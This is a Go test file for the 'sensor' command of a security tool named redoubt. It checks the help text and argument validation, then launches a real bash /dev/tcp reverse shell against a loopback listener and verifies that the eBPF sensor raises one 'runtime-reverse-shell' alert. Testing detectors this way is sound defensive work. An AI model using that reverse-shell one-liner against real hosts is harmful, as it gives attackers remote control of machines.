package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

func TestSensorUsage(t *testing.T) {
	code, out, _ := redoubt(t, "", "sensor", "--help")
	for _, want := range []string{"Usage:", "Examples:", "--kubeconfig", "--pod-cidr", "runtime-reverse-shell", "CAP_BPF", "SIGTERM"} {
		if code != 0 || !strings.Contains(out, want) {
			t.Errorf("sensor --help (exit %d) does not mention %s", code, want)
		}
	}
	for _, args := range [][]string{
		{"sensor", "--pod-cidr", "10.0.0.0/33"},
		{"sensor", "--service-cidr", "nope"},
		{"sensor", "--in-cluster", "--kubeconfig", "x"},
		{"sensor", "extra-arg"},
	} {
		if code, _, errOut := redoubt(t, "", args...); code != exitInput {
			t.Errorf("%v: exit %d, want 2 (stderr %q)", args, code, errOut)
		}
	}
}

// TestSensorCatchesAReverseShell runs `redoubt sensor` for real (root, eBPF), runs a bash
// reverse shell against a loopback listener, stops the sensor as SIGTERM would (the context
// main cancels on it) and checks the alert is in --output and the exit code is 0.
func TestSensorCatchesAReverseShell(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root to load eBPF programs")
	}
	file := filepath.Join(t.TempDir(), "alerts.jsonl")
	var stderr syncBuffer
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	done := make(chan int, 1)
	go func() {
		done <- run(ctx, []string{"sensor", "--alerts-only", "--node", "test-node", "-o", file}, strings.NewReader(""), &bytes.Buffer{}, &stderr)
	}()
	for deadline := time.Now().Add(60 * time.Second); !strings.Contains(stderr.String(), "sensor attached"); {
		select {
		case code := <-done:
			t.Skipf("the sensor cannot run here (exit %d): %s", code, stderr.String())
		default:
		}
		if time.Now().After(deadline) {
			t.Fatalf("the sensor did not attach within 60 s: %s", stderr.String())
		}
		time.Sleep(20 * time.Millisecond)
	}

	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	port := l.Addr().(*net.TCPAddr).Port
	shell := exec.Command("bash", "-c", fmt.Sprintf("bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/%d 0>&1", port))
	if err := shell.Start(); err != nil {
		t.Fatal(err)
	}
	conn, err := l.Accept()
	if err != nil {
		t.Fatal(err)
	}
	conn.SetDeadline(time.Now().Add(10 * time.Second))
	fmt.Fprint(conn, "echo REDOUBT_$((6*7)); exit\n")
	answered := false
	for sc := bufio.NewScanner(conn); sc.Scan(); {
		if strings.Contains(sc.Text(), "REDOUBT_42") {
			answered = true
			break
		}
	}
	conn.Close()
	shell.Wait()
	if !answered {
		t.Fatal("the reverse shell did not answer: the attack did not run")
	}

	// Give the sensor the moment it needs to read the event, then stop it.
	var alerts []map[string]any
	for deadline := time.Now().Add(10 * time.Second); len(alerts) == 0 && time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
		alerts = readAlerts(t, file, port)
	}
	cancel()
	select {
	case code := <-done:
		if code != 0 {
			t.Errorf("exit %d after stop, want 0; stderr: %s", code, stderr.String())
		}
	case <-time.After(30 * time.Second):
		t.Fatal("the sensor did not stop within 30 s of being told to")
	}
	if alerts = readAlerts(t, file, port); len(alerts) != 1 {
		t.Fatalf("%d reverse-shell alerts for port %d in %s, want 1 (one session, one alert)", len(alerts), port, file)
	}
	if r := alerts[0]["resource"].(map[string]any); r["kind"] != "Node" || r["name"] != "test-node" {
		t.Errorf("a process outside any container is attributed to the node: got %v", r)
	}
}

// readAlerts returns the reverse-shell alerts naming port in the JSON-lines file.
func readAlerts(t *testing.T, file string, port int) []map[string]any {
	b, err := os.ReadFile(file)
	if err != nil {
		return nil
	}
	var out []map[string]any
	for _, line := range strings.Split(strings.TrimSpace(string(b)), "\n") {
		if line == "" {
			continue
		}
		var m map[string]any
		if err := json.Unmarshal([]byte(line), &m); err != nil {
			t.Fatalf("%s: a line that is not JSON: %v: %q", file, err, line)
		}
		if m["kind"] == "alert" && m["check"] == "runtime-reverse-shell" && strings.Contains(fmt.Sprint(m["message"]), fmt.Sprintf("127.0.0.1:%d", port)) {
			out = append(out, m)
		}
	}
	return out
}
